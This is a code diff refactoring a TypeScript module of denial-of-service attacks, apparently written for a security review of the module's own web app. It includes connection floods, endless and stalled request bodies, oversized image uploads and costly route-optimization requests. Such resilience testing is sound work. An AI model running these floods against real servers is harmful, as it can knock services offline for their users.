@@ -2,12 +2,12 @@ import { randomUUID } from 'node:crypto';
 import { Agent, request } from 'node:http';
 import { connect, type Socket } from 'node:net';
 import sharp from 'sharp';
-import { createTripRequest, type Ends } from './country.ts';
+import { COAST_TO_COAST, createTripRequest } from './country.ts';
 
-/** A malicious client: the server's URL, headers sent with every request, query texts, and accounts. */
+/** A malicious client: the server's URL, headers sent with every request, texts to search for, and accounts. */
 export type Attacker = {
   readonly url: string;
-  readonly from: Readonly<Record<string, string>>;
+  readonly clientHeaders: Readonly<Record<string, string>>;
   readonly texts: readonly string[];
   readonly accounts: readonly { readonly headers: Record<string, string>; readonly reviewId: string }[];
 };
@@ -23,11 +23,6 @@ const BODY_PATHS = ['/api/review-photos', '/api/user/favorites/import', '/api/se
 const CHUNK = `10000\r\n${'x'.repeat(65_536)}\r\n`;
 const PIXELS = 3_990;
 
-/** From one corner of the country to another. */
-const CROSS_COUNTRY: Ends = {
-  start: { lat: 34.05, lng: -118.24, label: 'Los Angeles, CA' },
-  end: { lat: 40.75, lng: -73.99, label: 'New York, NY' },
-};
 const WAYPOINTS = [
   { lat: 47.61, lng: -122.33, label: 'Seattle, WA' },
   { lat: 32.78, lng: -96.8, label: 'Dallas, TX' },
@@ -64,9 +59,9 @@ function startFlood(url: string, connections: number, next: (connection: number)
 }
 
 /** Sends an endless body as fast as the server reads it; reconnects when disconnected. */
-function sendEndlessBody({ url: server, from }: Attacker, path: string): Stop {
+function sendEndlessBody({ url: server, clientHeaders }: Attacker, path: string): Stop {
   const url = new URL(server);
-  const head = Object.entries(from).map(([name, value]) => `${name}: ${value}\r\n`);
+  const head = Object.entries(clientHeaders).map(([name, value]) => `${name}: ${value}\r\n`);
   let socket: Socket | null = null;
   let isOver = false;
   const openConnection = () => {
@@ -92,13 +87,13 @@ function sendEndlessBody({ url: server, from }: Attacker, path: string): Stop {
 }
 
 /** Announces a large body but never sends it; reconnects when disconnected. */
-function holdUpload({ url, from }: Attacker, headers: Record<string, string>): Stop {
+function holdUpload({ url, clientHeaders }: Attacker, headers: Record<string, string>): Stop {
   const { hostname, port, host } = new URL(url);
   let socket: Socket | null = null;
   let isOver = false;
   const openConnection = () => {
     if (isOver) return;
-    const all = { host, 'content-type': 'application/json', 'content-length': '900000', ...headers, ...from };
+    const all = { host, 'content-type': 'application/json', 'content-length': '900000', ...headers, ...clientHeaders };
     const head = Object.entries(all).map(([name, value]) => `${name}: ${value}`);
     socket = connect(Number(port), hostname);
     socket.on('error', () => undefined).once('close', () => setTimeout(openConnection, REPEAT_MS));
@@ -124,16 +119,19 @@ let sentCount = 0;
 
 /** Attacks from a security review, each run by one client. */
 export const ATTACKS: Readonly<Record<string, (attacker: Attacker) => Promise<Stop> | Stop>> = {
-  words: ({ url, from, texts }) =>
+  words: ({ url, clientHeaders, texts }) =>
     startFlood(url, CONNECTIONS, () => {
       sentCount += 1;
-      return { path: '/api/search', body: { query: texts[sentCount % texts.length] }, headers: from };
+      return { path: '/api/search', body: { query: texts[sentCount % texts.length] }, headers: clientHeaders };
     }),
-  tiles: ({ url, from, texts }) =>
+  tiles: ({ url, clientHeaders, texts }) =>
     startFlood(url, CONNECTIONS, () => {
       sentCount += 1;
       const filters = { text: `${texts[sentCount % texts.length]?.slice(0, 190)}${sentCount}` };
-      return { path: `/api/map/6/15/24.mvt?filters=${encodeURIComponent(JSON.stringify(filters))}`, headers: from };
+      return {
+        path: `/api/map/6/15/24.mvt?filters=${encodeURIComponent(JSON.stringify(filters))}`,
+        headers: clientHeaders,
+      };
     }),
   bodies: (attacker) =>
     combineStops(
@@ -141,25 +139,26 @@ export const ATTACKS: Readonly<Record<string, (attacker: Attacker) => Promise<St
     ),
   uploads: (attacker) =>
     combineStops(attacker.accounts.slice(0, 14).map(({ headers }) => holdUpload(attacker, headers))),
-  description: ({ url, from }) => startFlood(url, 10, () => ({ path: '/api/openapi.json', headers: from })),
-  photos: async ({ url, from, accounts }) => {
+  description: ({ url, clientHeaders }) =>
+    startFlood(url, 10, () => ({ path: '/api/openapi.json', headers: clientHeaders })),
+  photos: async ({ url, clientHeaders, accounts }) => {
     const image = await createHeavyPicture();
     return startFlood(url, 16, (connection) => {
       const { headers = {}, reviewId = '' } = accounts[connection % accounts.length] ?? {};
       const body = { id: randomUUID(), reviewId, image };
-      return { path: '/api/review-photos', body, headers: { ...headers, ...from } };
+      return { path: '/api/review-photos', body, headers: { ...headers, ...clientHeaders } };
     });
   },
-  plans: ({ url, from, accounts }) =>
+  plans: ({ url, clientHeaders, accounts }) =>
     startFlood(url, accounts.length, (connection) => ({
       path: '/api/routes/premium/optimize',
-      body: createTripRequest(CROSS_COUNTRY),
-      headers: { ...accounts[connection]?.headers, ...from },
+      body: createTripRequest(COAST_TO_COAST),
+      headers: { ...accounts[connection]?.headers, ...clientHeaders },
     })),
-  'plans.one': ({ url, from, accounts }) =>
+  'plans.one': ({ url, clientHeaders, accounts }) =>
     startFlood(url, 30, () => ({
       path: '/api/routes/premium/optimize',
-      body: { ...createTripRequest(CROSS_COUNTRY), waypoints: WAYPOINTS, nights: { afterDriveMin: 480 } },
-      headers: { ...accounts[0]?.headers, ...from },
+      body: { ...createTripRequest(COAST_TO_COAST), waypoints: WAYPOINTS, nights: { afterDriveMin: 480 } },
+      headers: { ...accounts[0]?.headers, ...clientHeaders },
     })),
 };
